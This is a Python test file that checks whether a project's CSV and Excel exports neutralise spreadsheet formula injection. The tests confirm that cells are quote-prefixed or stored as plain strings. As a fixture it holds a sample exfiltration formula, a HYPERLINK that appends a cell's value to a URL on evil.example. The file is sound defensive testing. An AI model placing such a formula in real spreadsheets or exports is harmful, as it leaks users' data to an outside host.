"""Formula injection: every export writes text that a spreadsheet shows and never runs."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from zhili.campaigns.board import export as board_export
from zhili.campaigns.board.schemas import PersonRow
from zhili.core.exports import FORMULA_STARTS, to_csv, to_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _person(name: str, supervisor: str) -> PersonRow:
    now = datetime(2026, 7, 23, tzinfo=UTC)
    return PersonRow(
        task_id=1,
        person_id=1,
        name=name,
        phone="+8613800000000",
        role="party_member",
        division_code="330825",
        division_name="龙游县",
        state="notified",
        notified_at=now,
        claim_due_at=now,
        claimed_at=None,
        report_due_at=now,
        reported_at=None,
        supervisor_name=supervisor,
        supervisor_phone=None,
        is_overdue=False,
    )


def _sheet_cells(body: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_no_csv_cell_starts_like_a_formula(start: str) -> None:
    body = to_csv([f"{start}head"], [[f"{start}1+1", "plain", 3]])
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    assert cells == [f"'{start}head", f"'{start}1+1", "plain", "3"]


def test_xlsx_text_is_a_string_cell_shown_as_typed() -> None:
    cells = _sheet_cells(to_xlsx("people", ["=head"], [[HYPERLINK, "@SUM(1)", -3, None]]))
    assert cells[0] == ("=head", "s")
    assert cells[1] == (HYPERLINK, "s")
    assert cells[2] == ("@SUM(1)", "s")
    assert cells[3] == (-3, "n")
    assert len(cells) == 4
    assert all(kind != "f" for _value, kind in cells)


def test_a_person_named_like_a_formula_is_literal_in_the_board_exports() -> None:
    row = _person(HYPERLINK, "@SUM(1)")
    cells = _sheet_cells(board_export.to_xlsx([row], "zh", which="unclaimed"))
    assert (HYPERLINK, "s") in cells
    assert ("@SUM(1)", "s") in cells
    assert all(kind != "f" for _value, kind in cells)
    text = board_export.to_csv([row], "zh").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[1][1] == "'+8613800000000"
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_xlsx_keeps_times_numbers_spaces_and_wide_rows_as_written() -> None:
    when = datetime(2026, 7, 23, 15, 4, 5, tzinfo=UTC).replace(tzinfo=None)  # exports hold wall-clock times
    wide = [f"c{n}" for n in range(30)]  # past column Z
    rows = [[when, 2.5, 7, " padded ", "a\x01b"], wide]
    body = to_xlsx("a sheet name longer than thirty-one characters", ["<&>"], rows)
    book = load_workbook(io.BytesIO(body))
    sheet = book.active
    assert sheet is not None
    assert sheet.title == "a sheet name longer than thirty"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "<&>"
    assert rows[1][:5] == (when, 2.5, 7, " padded ", "a\ufffdb")  # a character XML cannot carry is replaced
    assert rows[2] == tuple(wide)
    assert sheet.cell(row=3, column=27).column_letter == "AA"
    assert sheet.cell(row=3, column=27).value == "c26"
